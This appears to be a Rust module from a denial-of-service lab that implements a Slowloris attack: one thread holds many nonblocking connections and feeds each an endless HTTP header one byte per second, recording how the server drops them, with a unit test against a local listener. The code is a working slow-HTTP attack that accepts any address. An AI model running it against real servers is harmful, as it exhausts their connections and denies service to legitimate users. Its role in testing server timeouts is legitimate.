//! The slow clients: N connections that each send a request head one byte per second, all on one thread.
//!
//! Concurrency idea: the attack is the cheap side of the asymmetry. One thread holds every socket (nonblocking)
//! and sleeps in poll(2) between its one-byte writes, so 1,000 slow clients cost the lab one thread and a few
//! hundred KiB — while a server that gives each connection a thread pays 1,000 threads for them. The head never
//! ends (a header value that grows a byte a second), so only the server can end a connection: by a header
//! timeout, an error, or never. The thread notes when each connection was closed by the server, and how.

use rustix::event::{poll, PollFd, PollFlags, Timespec};
use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

/// What each connection sends, one byte at a time: a request line, a Host header, then a header value that never
/// ends. After the prefix, `a` forever.
pub const HEAD_PREFIX: &[u8] = b"GET /no/param HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slowloris: ";
/// Between two bytes of one connection.
const BYTE_INTERVAL: Duration = Duration::from_secs(1);
/// How long one connect may take (a server that stopped accepting still completes connects up to its backlog).
const CONNECT_TIMEOUT: Duration = Duration::from_secs(1);
/// The poll(2) timeout: the resolution of the drop times, and how late a byte may be.
const TICK: Duration = Duration::from_millis(10);

/// How one connection ended.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Fate {
    /// Still open when the attack ended.
    Open,
    /// The server closed it (end of stream on read).
    Closed,
    /// The server reset it (ECONNRESET, or a write failed).
    Reset,
}

/// One attack connection, from the lab's side.
#[derive(Debug, Clone, Copy)]
pub struct Connection {
    /// Since the attack started.
    pub opened_at: Duration,
    /// When the lab saw the server end it (None while open).
    pub ended_at: Option<Duration>,
    pub fate: Fate,
    /// Bytes of the head sent before it ended.
    pub sent: u64,
    /// The server answered something before closing (a 408 or 400, usually).
    pub answered: bool,
}

/// What the attack saw.
#[derive(Debug, Clone, Default)]
pub struct AttackOutcome {
    pub connections: Vec<Connection>,
    /// Connects that failed, and the first error.
    pub connect_failures: u64,
    pub first_connect_error: Option<String>,
    /// When the last connection was open (since the start).
    pub opened_in: Duration,
}

struct Live {
    stream: TcpStream,
    index: usize,
    next_write: Instant,
}

/// Opens up to `count` connections to `addr` and feeds them a byte a second until `duration` after `start` has
/// passed (opening included) or `stop` is set. Blocks the calling thread for that long; the sockets close when it
/// returns.
pub fn run(addr: SocketAddr, count: u64, start: Instant, duration: Duration, stop: &AtomicBool) -> AttackOutcome {
    let end = start + duration;
    let mut outcome = AttackOutcome::default();
    let mut live: Vec<Live> = Vec::with_capacity(count as usize);
    let mut last_step = Instant::now();
    // Opening: one connect after another, each blocking up to CONNECT_TIMEOUT; bytes start flowing at once, so
    // the server's header timeout starts counting for each connection when it is opened.
    for _ in 0..count {
        if Instant::now() >= end || stop.load(Ordering::Relaxed) {
            break;
        }
        match TcpStream::connect_timeout(&addr, CONNECT_TIMEOUT) {
            Ok(stream) => {
                let _ = stream.set_nodelay(true);
                if stream.set_nonblocking(true).is_err() {
                    outcome.connect_failures += 1;
                    continue;
                }
                let now = Instant::now();
                outcome.connections.push(Connection {
                    opened_at: now - start,
                    ended_at: None,
                    fate: Fate::Open,
                    sent: 0,
                    answered: false,
                });
                live.push(Live { stream, index: outcome.connections.len() - 1, next_write: now });
            }
            Err(e) => {
                outcome.connect_failures += 1;
                outcome.first_connect_error.get_or_insert_with(|| e.to_string());
            }
        }
        // Between two connects, keep the open ones going.
        if last_step.elapsed() >= TICK {
            step(&mut live, &mut outcome.connections, start, Duration::ZERO);
            last_step = Instant::now();
        }
    }
    outcome.opened_in = start.elapsed();
    // Until the end, even with every connection dropped: the probes go on, to show the recovery.
    while Instant::now() < end && !stop.load(Ordering::Relaxed) {
        step(&mut live, &mut outcome.connections, start, TICK);
    }
    // Sockets close here (dropped with `live`); the server sees the attack end.
    outcome
}

/// One round: waits up to `wait` for the server to close or answer something, then sends each connection its
/// byte when due. Connections the server ended are dropped from `live`.
fn step(live: &mut Vec<Live>, connections: &mut [Connection], start: Instant, wait: Duration) {
    let mut fds: Vec<PollFd> = live.iter().map(|l| PollFd::new(&l.stream, PollFlags::IN)).collect();
    let timeout = Timespec::try_from(wait).unwrap_or(Timespec { tv_sec: i64::MAX, tv_nsec: 0 });
    // The thread sleeps here until a connection has something to read or `wait` has passed.
    let ready = poll(&mut fds, Some(&timeout)).unwrap_or(0);
    let revents: Vec<bool> = fds.iter().map(|fd| !fd.revents().is_empty()).collect();
    drop(fds);
    let now = Instant::now();
    let mut ended = vec![false; live.len()];
    if ready > 0 {
        for (i, &readable) in revents.iter().enumerate() {
            if readable {
                let l = &mut live[i];
                if let Some(fate) = drain(&mut l.stream, &mut connections[l.index]) {
                    end_connection(&mut connections[l.index], fate, now - start);
                    ended[i] = true;
                }
            }
        }
    }
    for (i, l) in live.iter_mut().enumerate() {
        if ended[i] || l.next_write > now {
            continue;
        }
        let conn = &mut connections[l.index];
        let byte = HEAD_PREFIX.get(conn.sent as usize).copied().unwrap_or(b'a');
        match l.stream.write(&[byte]) {
            Ok(_) => {
                conn.sent += 1;
                l.next_write += BYTE_INTERVAL;
            }
            Err(e) if e.kind() == ErrorKind::WouldBlock => {}
            Err(_) => {
                end_connection(conn, Fate::Reset, now - start);
                ended[i] = true;
            }
        }
    }
    let mut i = 0;
    live.retain(|_| {
        i += 1;
        !ended[i - 1]
    });
}

/// Reads what the server sent. Returns how the connection ended, or None while it is still open.
fn drain(stream: &mut TcpStream, conn: &mut Connection) -> Option<Fate> {
    let mut buf = [0u8; 4096];
    loop {
        match stream.read(&mut buf) {
            Ok(0) => return Some(Fate::Closed),
            Ok(_) => conn.answered = true,
            Err(e) if e.kind() == ErrorKind::WouldBlock => return None,
            Err(e) if e.kind() == ErrorKind::Interrupted => continue,
            Err(_) => return Some(Fate::Reset),
        }
    }
}

fn end_connection(conn: &mut Connection, fate: Fate, at: Duration) {
    conn.fate = fate;
    conn.ended_at = Some(at);
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::net::TcpListener;

    #[test]
    fn feeds_a_byte_a_second_and_sees_the_server_close() {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let addr = listener.local_addr().unwrap();
        // A "server" that reads 2 bytes from the first connection, then closes it; keeps the second open.
        let server = std::thread::spawn(move || {
            let (mut first, _) = listener.accept().unwrap();
            let (second, _) = listener.accept().unwrap();
            let mut two = [0u8; 2];
            first.read_exact(&mut two).unwrap();
            drop(first);
            std::thread::sleep(Duration::from_millis(1500));
            drop(second);
            two
        });
        let outcome = run(addr, 2, Instant::now(), Duration::from_millis(1300), &AtomicBool::new(false));
        assert_eq!(&server.join().unwrap(), b"GE");
        assert_eq!(outcome.connections.len(), 2);
        let first = outcome.connections[0];
        assert_eq!(first.fate, Fate::Closed, "{first:?}");
        let at = first.ended_at.unwrap();
        assert!(at >= Duration::from_millis(900) && at < Duration::from_millis(1300), "{at:?}");
        let second = outcome.connections[1];
        assert_eq!((second.fate, second.sent), (Fate::Open, 2), "{second:?}");
    }
}
